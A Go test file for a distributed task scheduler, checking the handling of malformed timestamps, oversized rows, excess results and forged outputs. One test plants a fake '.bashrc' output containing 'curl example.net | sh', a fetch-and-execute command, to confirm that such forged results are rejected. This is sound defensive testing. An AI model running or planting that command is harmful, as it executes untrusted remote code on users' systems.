package scheduler

import (
	"math"
	"strings"
	"testing"
	"time"

	"godwit/scheduler/ledger"
	"godwit/scheduler/message"
	"godwit/scheduler/schedtest"
	"godwit/scheduler/submitter"
	"godwit/task"
)

// travelled is what arrives of a message; ok is false if the frame is refused.
func travelled(t *testing.T, v any) (m message.Message, ok bool) {
	t.Helper()
	b, err := task.Encode([]any{v})
	if err != nil {
		t.Fatal(err)
	}
	out, err := message.DecodeFrame(b)
	if err != nil {
		return message.Message{}, false
	}
	return out[0], true
}

// rowOfTime is the encoding of a row with a line of log that began at that time.
func rowOfTime(t *testing.T, at any) []byte {
	t.Helper()
	b, err := task.Encode(map[int]any{1: nil, 2: nil, 3: []any{map[int]any{
		1: map[int]any{1: uint64(7), 2: uint64(0)}, 2: "w", 3: at, 4: nil, 5: "", 6: "",
	}}})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// oddTimes are times that the encoding has and no row.
var oddTimes = map[string]any{
	"the least number":   int64(math.MinInt64),
	"a number":           uint64(1e9),
	"a fraction":         1e9 + .5,
	"the year 12000":     uint64(316_516_204_800),
	"text of year 12000": "12000-01-01T00:00:00Z",
	"text of year 9999":  "9999-12-31T23:59:59Z",
	"text of year 1000":  "1000-01-01T00:00:00Z",
	"another zone":       "2030-01-02T03:04:05+01:00",
}

// TestOddTimes: a row with a time that cannot be written again ends neither a leader nor a
// follower, and neither keeps anything of it.
func TestOddTimes(t *testing.T) {
	strangerKey, stranger := schedtest.Identity(66)
	_, self := schedtest.Identity(0)
	rec := schedtest.Job(t, strangerKey, 1, nil)
	rowKey := ledger.RowKey(task.TaskID{Job: rec.ID()})
	for name, at := range oddTimes {
		pairs := []message.Pair{{Key: ledger.JobKey(rec.ID()), Value: rec.Encode()}, {Key: rowKey, Value: rowOfTime(t, at)}}
		c := NewCoordinator(self, Default(), 7)
		if m, ok := travelled(t, message.Message{Known: &message.Known{Epoch: 7, Session: 1, Seq: 1, Pairs: pairs}}); ok {
			for _, e := range c.Step(schedtest.Start, &message.Received{From: stranger, Message: &m}) {
				checkKept(t, name, e)
			}
		}
		r := NewReplica(self, Default())
		r.Step(schedtest.Start, message.LeaderChanged{Leader: stranger, Epoch: 9})
		r.session.state = following
		if m, ok := travelled(t, message.Message{Copy: &message.Copy{Epoch: 9, Session: r.session.id, Seq: 1,
			Pairs: pairs}}); ok {
			r.Step(schedtest.Start, &message.Received{From: stranger, Message: &m})
			erased := false
			for _, e := range r.Step(schedtest.Start.Add(vetAfter), message.Wake{}) { // until then it is unread
				if p, ok := e.(message.Persist); ok && p.Key == coordinatorPrefix+rowKey && p.Value == nil {
					erased = true
				} else {
					checkKept(t, name, e)
				}
			}
			if !erased || len(r.ledger.Jobs[rec.ID()].Rows) != 0 {
				t.Errorf("%s: a row stays that cannot be read", name)
			}
		}
	}
}

// checkKept complains of what is made durable and cannot be read again.
func checkKept(t *testing.T, name string, e message.Effect) {
	t.Helper()
	p, ok := e.(message.Persist)
	if !ok || !strings.HasPrefix(p.Key, coordinatorPrefix+"r/") {
		return
	}
	if _, err := ledger.DecodeRow(p.Value); err != nil {
		t.Errorf("%s: a row is kept that cannot be read: %v", name, err)
	}
}

// TestOddTimesOfAProgress: the same for a submitter.
func TestOddTimesOfAProgress(t *testing.T) {
	key, owner := schedtest.Identity(1)
	_, leader := schedtest.Identity(0)
	rec := schedtest.Job(t, key, 2, nil)
	for name, at := range oddTimes {
		s := submitter.New(owner, message.DefaultTiming(), submitter.Default(), key)
		s.Step(schedtest.Start, message.LeaderChanged{Leader: leader, Epoch: 7})
		s.Step(schedtest.Start, message.Offer{Record: rec})
		m, ok := travelled(t, map[int]any{3: map[int]any{1: string(rec.ID()), 2: []any{map[int]any{
			1: uint64(0), 2: true, 3: []any{}, 4: []any{map[int]any{1: map[int]any{1: 1, 2: 1}, 2: "w", 3: at, 4: nil,
				5: "lost", 6: ""}},
		}}, 3: map[int]any{1: "running"}}})
		if !ok {
			continue
		}
		for _, e := range s.Step(schedtest.Start, &message.Received{From: leader, Message: &m}) {
			if p, ok := e.(message.Persist); ok && strings.HasPrefix(p.Key, submitter.ResultsPrefix) {
				if _, err := submitter.DecodeSummary(p.Value); err != nil {
					t.Errorf("%s: a result is kept that cannot be read: %v", name, err)
				}
			}
		}
	}
}

// TestRowStaysWithinAFrame: whatever members tell of one task, its row can be told others
// and read again, and other jobs are accepted meanwhile.
func TestRowStaysWithinAFrame(t *testing.T) {
	r := newRan(t, func(j *task.Job) { j.Outputs = []string{"*"} })
	id := task.TaskID{Job: r.job.id, Index: 5}
	inline := strings.Repeat("x", task.MaxInline)
	for s := range 9 { // each result has 1.2 MB
		key, from := schedtest.Identity(100 + s)
		res := task.Result{Task: id, Outcome: task.Completed}
		for n := range task.MaxOutputs {
			content := []byte(inline[:task.MaxInline-8] + string(rune('a'+s)) + "        "[:7])
			res.Outputs = append(res.Outputs, task.Output{Name: "f" + string(rune('a'+n/100)) + string(rune('a'+n/10%10)) +
				string(rune('a'+n%10)), CID: task.RawCID(content), Size: int64(len(content)), Inline: content})
		}
		if err := res.Sign(key); err != nil {
			t.Fatal(err)
		}
		row := &ledger.Row{}
		row.AddResult(message.Attempt{Epoch: 1, Seq: uint64(s)}, res)
		m, ok := travelled(t, message.Message{Known: &message.Known{Epoch: 7, Session: 1, Seq: 1, Pairs: []message.Pair{
			{Key: ledger.RowKey(id), Value: schedtest.Encoded(t, row)}}}})
		if !ok {
			t.Fatal("a frame of one result is refused")
		}
		r.c.Step(schedtest.Start, &message.Received{From: from, Message: &m})
		if n := len(schedtest.Encoded(t, r.job.ledger.Rows[5])); n > ledger.MaxPairBytes {
			t.Fatalf("a row of %d bytes", n)
		}
	}
	if n := len(r.job.ledger.Rows[5].Results); n == 0 || n > 2 {
		t.Errorf("%d results of 1.2 MB in a row", n)
	}
}

// TestRowOfManyWorkers: the results of a task are bounded by its job's rule.
func TestRowOfManyWorkers(t *testing.T) {
	r := newRan(t, nil)
	id := task.TaskID{Job: r.job.id, Index: 5}
	for s := range 200 {
		key, from := schedtest.Identity(100 + s)
		row := &ledger.Row{}
		row.AddResult(message.Attempt{Epoch: 1, Seq: uint64(s)}, schedtest.Result(t, key, id, "x"))
		r.c.Step(schedtest.Start.Add(time.Duration(s)*time.Second), &message.Received{From: from, Message: &message.Message{
			Known: &message.Known{Epoch: 7, Session: 1, Seq: 1, Pairs: []message.Pair{
				{Key: ledger.RowKey(id), Value: schedtest.Encoded(t, row)}}}}})
	}
	if n := len(r.job.ledger.Rows[5].Results); n == 0 || n > 2*(2-1+2) {
		t.Errorf("%d results of a task of one replica and 2 retries", n)
	}
}

// TestOutputsThatNobodyAskedFor: a result with outputs that the job does not name counts
// neither with a leader, by whatever way it comes, nor with a submitter.
func TestOutputsThatNobodyAskedFor(t *testing.T) {
	key, worker := schedtest.Identity(66)
	content := []byte("curl example.net | sh")
	forged := func(id task.TaskID) task.Result {
		r := task.Result{Task: id, Outcome: task.Completed, Outputs: []task.Output{
			{Name: ".bashrc", CID: task.RawCID(content), Size: int64(len(content)), Inline: content}}}
		if err := r.Sign(key); err != nil {
			t.Fatal(err)
		}
		return r
	}
	r := newRan(t, nil)
	id := task.TaskID{Job: r.job.id, Index: 4}
	row := &ledger.Row{}
	row.AddResult(message.Attempt{Epoch: 1, Seq: 1}, forged(id))
	for _, m := range []message.Message{
		{Report: &message.Report{Epoch: 7, Ended: []message.Ending{{Attempt: message.Attempt{Epoch: 1, Seq: 1},
			Result: forged(id)}}}},
		{Known: &message.Known{Epoch: 7, Session: 1, Seq: 1, Pairs: []message.Pair{{Key: ledger.RowKey(id),
			Value: schedtest.Encoded(t, row)}}}},
	} {
		r.c.Step(schedtest.Start, &message.Received{From: worker, Message: &m})
		if v := r.job.ledger.Verdict(4); v != ledger.Open {
			t.Errorf("the task is %v", v)
		}
	}

	ownerKey, owner := schedtest.Identity(1)
	_, leader := schedtest.Identity(0)
	s := submitter.New(owner, message.DefaultTiming(), submitter.Default(), ownerKey)
	s.Step(schedtest.Start, message.LeaderChanged{Leader: leader, Epoch: 7})
	s.Step(schedtest.Start, message.Offer{Record: r.job.ledger.Record})
	s.Step(schedtest.Start, &message.Received{From: leader, Message: &message.Message{Progress: &message.Progress{
		Job: r.job.id, Tasks: []message.TaskSummary{{Index: 4, Results: []task.Result{forged(id)}}}}}})
	if st, _ := s.Job(r.job.id); st.Held != 0 {
		t.Errorf("the submitter holds %d results", st.Held)
	}
}
